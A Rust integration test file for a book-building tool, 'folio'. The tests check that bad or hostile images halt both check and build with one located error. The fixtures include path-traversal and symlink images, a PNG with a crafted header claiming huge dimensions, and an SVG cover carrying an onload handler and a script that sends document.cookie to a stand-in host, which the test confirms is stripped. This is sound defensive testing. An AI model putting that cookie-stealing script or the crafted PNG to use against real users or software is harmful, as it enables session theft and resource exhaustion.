//! One policy per image problem, the same in both outputs (issue 11): `folio check` and
//! `folio build` each stop on every image problem with one located error and write nothing;
//! formats a reader or printer can take after conversion reach both outputs; `--draft`
//! puts a placeholder in both and exits 0; hostile files finish quickly.

mod common;

use std::io::Cursor;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};
use std::time::{Duration, Instant};

use image::{ImageFormat, Rgb, RgbImage, Rgba, RgbaImage};

/// The article every case uses: the image stands at line 5, column 1.
fn article(src: &str) -> String {
    format!("---\ntitle: Harbour Notes\n---\n\n![A chart of the bay]({src})\n\nThe tide came in twice.\n")
}

/// A collection in `<tmp>/book` (so that `<tmp>` is outside it) with one article naming
/// `src`, and `cover` in the manifest when given.
fn book(src: &str, cover: Option<&str>) -> tempfile::TempDir {
    let tmp = tempfile::tempdir().unwrap();
    let dir = tmp.path().join("book");
    std::fs::create_dir(&dir).unwrap();
    let cover = cover.map_or_else(String::new, |c| format!("cover = \"{c}\"\n"));
    std::fs::write(
        dir.join("collection.toml"),
        format!("title = \"Harbour\"\nauthors = [\"Ona Reyes\"]\n{cover}articles = [\"a.md\"]\n"),
    )
    .unwrap();
    std::fs::write(dir.join("a.md"), article(src)).unwrap();
    tmp
}

fn dir(tmp: &tempfile::TempDir) -> PathBuf {
    tmp.path().join("book")
}

fn folio(args: &[&str]) -> (Output, Duration) {
    let started = Instant::now();
    let out = Command::new(common::folio_bin())
        .args(args)
        .output()
        .expect("folio runs");
    (out, started.elapsed())
}

fn stderr(o: &Output) -> String {
    String::from_utf8_lossy(&o.stderr).into_owned()
}

fn files_in(dir: &Path) -> Vec<PathBuf> {
    let mut v: Vec<PathBuf> = std::fs::read_dir(dir)
        .into_iter()
        .flatten()
        .flatten()
        .map(|e| e.path())
        .collect();
    v.sort();
    v
}

/// Encodes `image` in `format`.
fn encode(image: image::DynamicImage, format: ImageFormat) -> Vec<u8> {
    let mut out = Cursor::new(Vec::new());
    image.write_to(&mut out, format).unwrap();
    out.into_inner()
}

/// A 600 × 300 RGB picture (big enough to print without a resolution warning at 2 in).
fn picture(format: ImageFormat) -> Vec<u8> {
    let img = RgbImage::from_fn(600, 300, |x, y| Rgb([(x % 256) as u8, (y % 256) as u8, 90]));
    encode(img.into(), format)
}

/// A PNG built chunk by chunk: IHDR for `w` × `h` (8-bit, colour type `color`), then
/// `raw` deflated as its data. Its declared size need not match the data.
fn crafted_png(w: u32, h: u32, depth: u8, color: u8, raw: &[u8]) -> Vec<u8> {
    use std::io::Write;
    let mut z = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
    z.write_all(raw).unwrap();
    let data = z.finish().unwrap();
    let mut ihdr = Vec::new();
    ihdr.extend(w.to_be_bytes());
    ihdr.extend(h.to_be_bytes());
    ihdr.extend([depth, color, 0, 0, 0]);
    let mut png = b"\x89PNG\r\n\x1a\n".to_vec();
    for (kind, body) in [(&b"IHDR"[..], &ihdr[..]), (b"IDAT", &data), (b"IEND", &[])] {
        png.extend((body.len() as u32).to_be_bytes());
        let mut crc = flate2::Crc::new();
        crc.update(kind);
        crc.update(body);
        png.extend(kind);
        png.extend(body);
        png.extend(crc.sum().to_be_bytes());
    }
    png
}

/// A valid PNG whose header then claims one row more than its data holds (CRC mended, so
/// only the size is wrong).
fn png_claiming_more_rows() -> Vec<u8> {
    let raw: Vec<u8> = (0..10).flat_map(|_| [0u8; 31]).collect(); // 10 rows of 10 RGB px
    crafted_png(10, 11, 8, 2, &raw)
}

/// An image problem: its name, what to put beside the article (the `src` to use), and words
/// of the one error it must give.
struct Case {
    name: &'static str,
    setup: fn(&Path) -> String,
    says: &'static str,
}

fn write(dir: &Path, name: &str, bytes: &[u8]) -> String {
    std::fs::write(dir.join(name), bytes).unwrap();
    name.to_string()
}

const CASES: &[Case] = &[
    Case {
        name: "missing",
        setup: |_| "nowhere/chart.png".into(),
        says: "image not found",
    },
    Case {
        name: "empty",
        setup: |d| write(d, "chart.png", b""),
        says: "is empty",
    },
    Case {
        name: "a folder",
        setup: |d| {
            std::fs::create_dir(d.join("chart.png")).unwrap();
            "chart.png".into()
        },
        says: "is a folder, not a file",
    },
    Case {
        name: "outside the root",
        setup: |d| {
            std::fs::write(d.join("../chart.png"), picture(ImageFormat::Png)).unwrap();
            "../chart.png".into()
        },
        says: "is outside the collection's folder",
    },
    Case {
        name: "a symlink to /dev/zero",
        setup: |d| {
            std::os::unix::fs::symlink("/dev/zero", d.join("chart.png")).unwrap();
            "chart.png".into()
        },
        says: "is outside the collection's folder",
    },
    Case {
        name: "over the size cap",
        setup: |d| {
            let f = std::fs::File::create(d.join("chart.png")).unwrap();
            f.set_len(65 << 20).unwrap(); // sparse: nothing is written
            "chart.png".into()
        },
        says: "over the 64 MiB",
    },
    Case {
        name: "a damaged PNG",
        setup: |d| {
            let png = picture(ImageFormat::Png);
            write(d, "chart.png", &png[..png.len() / 2])
        },
        says: "is damaged",
    },
    Case {
        name: "a damaged JPEG",
        setup: |d| {
            let mut jpg = picture(ImageFormat::Jpeg);
            let n = jpg.len();
            jpg[n / 2..].fill(0);
            write(d, "chart.jpg", &jpg)
        },
        says: "is damaged",
    },
    Case {
        name: "a declared size its data does not hold",
        setup: |d| write(d, "chart.png", &png_claiming_more_rows()),
        says: "but its declared 10 × 11 pixels need",
    },
    Case {
        name: "over the megapixel cap",
        setup: |d| write(d, "chart.png", &crafted_png(20_000, 20_000, 8, 2, &[0; 16])),
        says: "over the 100 megapixels",
    },
    Case {
        name: "a data: URL",
        setup: |_| "data:image/png;base64,iVBORw0KGgo=".into(),
        says: "`data:` URL",
    },
    Case {
        name: "a remote image",
        setup: |_| "https://example.com/chart.png".into(),
        says: "the print edition cannot fetch it",
    },
    Case {
        name: "a PDF named .png",
        setup: |d| {
            write(
                d,
                "chart.png",
                b"%PDF-1.4\n%\xe2\xe3\n1 0 obj\n<<>>\nendobj\n",
            )
        },
        says: "is a PDF document, which neither output takes",
    },
    Case {
        name: "text named .png",
        setup: |d| write(d, "chart.png", b"not an image at all\n"),
        says: "is not in an image format Folio takes",
    },
    Case {
        name: "an SVG that is not well-formed",
        setup: |d| {
            let svg = "<svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 4 4\"><rect width=\"4\"></svg>";
            write(d, "chart.svg", svg.as_bytes())
        },
        says: "chart.svg cannot be read: ",
    },
    Case {
        name: "an SVG without a size",
        setup: |d| {
            let svg = "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"0\"><rect width=\"4\" height=\"4\"/></svg>";
            write(d, "chart.svg", svg.as_bytes())
        },
        says: "chart.svg cannot be read: ",
    },
];

/// Runs `command` (`check` or `build`) on a collection set up by `case` and checks the one
/// located error, the exit code and that nothing was written.
fn refuses(case: &Case, command: &str) {
    let tmp = book("", None);
    let d = dir(&tmp);
    let src = (case.setup)(&d);
    std::fs::write(d.join("a.md"), article(&src)).unwrap();
    let out_dir = tmp.path().join("out");
    let path = d.display().to_string();
    let out = out_dir.display().to_string();
    let args: Vec<&str> = match command {
        "build" => vec!["build", &path, "--out", &out],
        _ => vec!["check", &path],
    };
    let (o, took) = folio(&args);
    let err = stderr(&o);
    assert_eq!(o.status.code(), Some(1), "{}: {command}: {err}", case.name);
    let at = format!("{}:5:1: error: ", d.join("a.md").display());
    let lines: Vec<&str> = (err.lines())
        .filter(|l| l.contains(": error: ") || l.contains(": warning: "))
        .collect();
    assert!(
        lines.len() == 1 && lines[0].starts_with(&at) && lines[0].contains(case.says),
        "{}: {command}: want one line `{at}…{}…`, got:\n{err}",
        case.name,
        case.says
    );
    assert!(
        files_in(&out_dir).is_empty(),
        "{}: {command} wrote files",
        case.name
    );
    assert!(
        took < Duration::from_secs(5),
        "{}: {command} took {took:?}",
        case.name
    );
}

#[test]
fn every_image_problem_stops_check_with_one_located_error() {
    for case in CASES {
        refuses(case, "check");
    }
}

#[test]
fn every_image_problem_stops_build_and_nothing_is_written() {
    for case in CASES {
        refuses(case, "build");
    }
}

#[test]
fn a_named_pipe_as_an_image_is_refused_without_blocking() {
    let tmp = book("pipe.png", None);
    let d = dir(&tmp);
    let made = Command::new("mkfifo")
        .arg(d.join("pipe.png"))
        .status()
        .expect("mkfifo runs");
    assert!(made.success());
    let (o, took) = folio(&["check", &d.display().to_string()]);
    let err = stderr(&o);
    assert_eq!(o.status.code(), Some(1), "{err}");
    assert!(
        err.contains(&format!("{}:5:1: error: image ", d.join("a.md").display()))
            && err.contains("is a named pipe, not a file"),
        "{err}"
    );
    assert!(took < Duration::from_secs(2), "took {took:?}");
}

#[test]
fn the_cover_is_checked_at_its_manifest_line() {
    let tmp = book("", None);
    let d = dir(&tmp);
    std::fs::write(d.join("a.md"), "# T\n\nText.\n").unwrap();
    std::fs::write(
        d.join("collection.toml"),
        "title = \"Harbour\"\nauthors = [\"Ona Reyes\"]\ncover = \"cover.png\"\narticles = [\"a.md\"]\n",
    )
    .unwrap();
    std::fs::write(d.join("cover.png"), b"GIF89a but cut").unwrap();
    let (o, _) = folio(&["check", &d.display().to_string()]);
    let err = stderr(&o);
    assert_eq!(o.status.code(), Some(1), "{err}");
    let at = format!("{}:3:9: error: image ", d.join("collection.toml").display());
    assert!(err.contains(&at) && err.contains("is damaged"), "{err}");
}

/// Image XObjects a PDF places (soft masks not counted).
fn pdf_images(pdf: &Path) -> usize {
    let doc = lopdf::Document::load(pdf).unwrap();
    let masks: Vec<lopdf::ObjectId> = (doc.objects.values())
        .filter_map(|o| o.as_stream().ok())
        .filter_map(|s| s.dict.get(b"SMask").ok()?.as_reference().ok())
        .collect();
    (doc.objects.iter())
        .filter(|(id, o)| {
            !masks.contains(id)
                && o.as_stream().is_ok_and(|s| {
                    s.dict.get(b"Subtype").ok() == Some(&lopdf::Object::Name(b"Image".to_vec()))
                })
        })
        .count()
}

/// The EPUB's package document and the names of its entries.
fn epub_package(epub: &Path) -> (String, Vec<String>) {
    let mut zip = zip::ZipArchive::new(std::fs::File::open(epub).unwrap()).unwrap();
    let names: Vec<String> = zip.file_names().map(str::to_string).collect();
    let mut opf = String::new();
    std::io::Read::read_to_string(&mut zip.by_name("OEBPS/content.opf").unwrap(), &mut opf)
        .unwrap();
    (opf, names)
}

fn epub_text(epub: &Path, name: &str) -> String {
    let mut zip = zip::ZipArchive::new(std::fs::File::open(epub).unwrap()).unwrap();
    let mut s = String::new();
    std::io::Read::read_to_string(&mut zip.by_name(name).unwrap(), &mut s).unwrap();
    s
}

/// Builds `d` into `<d>/out` with `extra` arguments; panics unless it exits 0.
fn build_ok(d: &Path, extra: &[&str]) -> (PathBuf, PathBuf, String) {
    let path = d.display().to_string();
    let mut args = vec!["build", path.as_str()];
    args.extend(extra);
    let (o, _) = folio(&args);
    let err = stderr(&o);
    assert_eq!(o.status.code(), Some(0), "{err}");
    (d.join("out/book.pdf"), d.join("out/book.epub"), err)
}

#[test]
fn gif_webp_bmp_and_tiff_reach_both_outputs() {
    let tmp = book("", None);
    let d = dir(&tmp);
    write(&d, "a.gif", &picture(ImageFormat::Gif));
    write(&d, "b.webp", &picture(ImageFormat::WebP));
    write(&d, "c.bmp", &picture(ImageFormat::Bmp));
    write(&d, "d.tif", &picture(ImageFormat::Tiff));
    let frames = [Rgba([200, 0, 0, 255]), Rgba([0, 0, 200, 255])]
        .map(|px| image::Frame::new(RgbaImage::from_pixel(600, 300, px)));
    let mut gif = Vec::new();
    image::codecs::gif::GifEncoder::new(&mut gif)
        .encode_frames(frames)
        .unwrap();
    write(&d, "e.gif", &gif);
    let body: String = ["a.gif", "b.webp", "c.bmp", "d.tif", "e.gif"]
        .iter()
        .map(|f| format!("![Picture {f}]({f})\n\n"))
        .collect();
    std::fs::write(d.join("a.md"), format!("# Pictures\n\n{body}")).unwrap();
    let (pdf, epub, err) = build_ok(&d, &[]);
    assert_eq!(pdf_images(&pdf), 5, "every picture is printed");
    let (opf, names) = epub_package(&epub);
    for (href, media) in [
        ("images/a.gif", "image/gif"),
        ("images/b.webp", "image/webp"),
        ("images/c.png", "image/png"),
        ("images/d.png", "image/png"),
        ("images/e.gif", "image/gif"),
    ] {
        assert!(
            opf.contains(&format!("href=\"{href}\" media-type=\"{media}\"")),
            "{href} as {media}: {opf}"
        );
        assert!(names.contains(&format!("OEBPS/{href}")), "{names:?}");
    }
    let animated = format!("{}:11:1: warning: image ", d.join("a.md").display());
    assert!(
        err.contains(&animated) && err.contains("shows its first frame"),
        "{err}"
    );
}

#[test]
fn an_escaped_path_names_the_same_file_in_both_outputs() {
    let tmp = book("my%20fig.png", None);
    let d = dir(&tmp);
    write(&d, "my fig.png", &picture(ImageFormat::Png));
    let (pdf, epub, _) = build_ok(&d, &[]);
    assert_eq!(pdf_images(&pdf), 1);
    let (opf, _) = epub_package(&epub);
    assert!(opf.contains("href=\"images/my-fig.png\""), "{opf}");
}

#[test]
fn a_draft_shows_placeholders_in_both_outputs_and_exits_0() {
    let tmp = book("art/not-yet.png", Some("cover-not-yet.png"));
    let d = dir(&tmp);
    let (o, _) = folio(&["check", "--draft", &d.display().to_string()]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let (pdf, epub, err) = build_ok(&d, &["--draft"]);
    let at = format!("{}:5:1: warning: image not found", d.join("a.md").display());
    assert!(err.contains(&at) && err.contains("placeholder"), "{err}");
    assert!(err.contains("collection.toml:3:9: warning:"), "{err}");
    if common::require_tool("pdftotext") {
        let text = Command::new("pdftotext")
            .args([pdf.as_os_str(), "-".as_ref()])
            .output()
            .unwrap();
        let text = String::from_utf8_lossy(&text.stdout).replace('\n', " ");
        assert!(
            text.contains("Image not available: art/not-yet.png"),
            "the print placeholder names the image: {text}"
        );
    }
    let page = epub_text(&epub, "OEBPS/article-01.xhtml");
    assert!(
        page.contains("role=\"img\" aria-label=\"Image not available: art/not-yet.png\""),
        "{page}"
    );
    let cover = epub_text(&epub, "OEBPS/cover.xhtml");
    assert!(
        cover.contains("Image not available: cover-not-yet.png"),
        "{cover}"
    );
    if common::require_tool("epubcheck") {
        let o = Command::new("epubcheck").arg(&epub).output().unwrap();
        assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stdout));
    }
}

#[test]
fn an_svg_cover_reaches_the_epub_without_its_script() {
    let tmp = book("chart.png", Some("cover.svg"));
    let d = dir(&tmp);
    write(&d, "chart.png", &picture(ImageFormat::Png));
    let svg = r##"<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 600 900" onload="steal()">
  <script>fetch("https://example.com/?" + document.cookie)</script>
  <rect width="600" height="900" fill="#234"/>
  <image xlink:href="https://example.com/pixel.png" width="1" height="1"/>
  <text x="50" y="450" fill="white" font-size="60">Harbour</text>
</svg>
"##;
    write(&d, "cover.svg", svg.as_bytes());
    let (_, epub, _) = build_ok(&d, &[]);
    let (opf, _) = epub_package(&epub);
    assert!(
        opf.contains(
            "href=\"images/cover.svg\" media-type=\"image/svg+xml\" properties=\"cover-image\""
        ),
        "{opf}"
    );
    let cover = epub_text(&epub, "OEBPS/images/cover.svg");
    for gone in ["<script", "onload", "example.com"] {
        assert!(!cover.contains(gone), "{gone} in {cover}");
    }
    assert!(cover.contains(">Harbour</text>"), "{cover}");
    if common::require_tool("epubcheck") {
        let o = Command::new("epubcheck").arg(&epub).output().unwrap();
        let report = String::from_utf8_lossy(&o.stdout);
        assert!(o.status.success(), "{report}");
        assert!(!report.contains("WARNING"), "{report}");
    }
}

#[test]
fn the_collections_stylesheet_is_read_through_the_sandbox() {
    let tmp = book("chart.png", None);
    let d = dir(&tmp);
    write(&d, "chart.png", &picture(ImageFormat::Png));
    let made = Command::new("mkfifo")
        .arg(d.join("epub.css"))
        .status()
        .expect("mkfifo runs");
    assert!(made.success());
    let (o, took) = folio(&["check", &d.display().to_string()]);
    let err = stderr(&o);
    assert_eq!(o.status.code(), Some(1), "{err}");
    assert!(
        err.contains(&format!(
            "{}: error: stylesheet",
            d.join("epub.css").display()
        )),
        "{err}"
    );
    assert!(took < Duration::from_secs(2), "took {took:?}");
    std::fs::remove_file(d.join("epub.css")).unwrap();
    write(&d, "epub.css", b"body { margin: 0 3em; }\n");
    let (_, epub, _) = build_ok(&d, &[]);
    assert_eq!(
        epub_text(&epub, "OEBPS/css/epub.css"),
        "body { margin: 0 3em; }\n"
    );
}

/// A PNG that declares nearly 100 megapixels of 16-bit RGBA (800 MB decoded) over a few
/// bytes of data is refused from its header and its data's length, with folio's memory held
/// to 300 MB: decoding it would need more.
#[test]
fn a_crafted_png_is_refused_without_a_large_allocation() {
    let tmp = book("chart.png", None);
    let d = dir(&tmp);
    write(&d, "chart.png", &crafted_png(9_999, 9_999, 16, 6, &[0; 64]));
    let script = format!(
        "ulimit -v 300000 && exec '{}' check '{}'",
        common::folio_bin().display(),
        d.display()
    );
    let o = Command::new("sh").arg("-c").arg(script).output().unwrap();
    let err = stderr(&o);
    assert_eq!(o.status.code(), Some(1), "{err}");
    assert!(
        err.contains(&format!("{}:5:1: error: image ", d.join("a.md").display()))
            && err.contains("declared 9999 × 9999 pixels"),
        "{err}"
    );
}
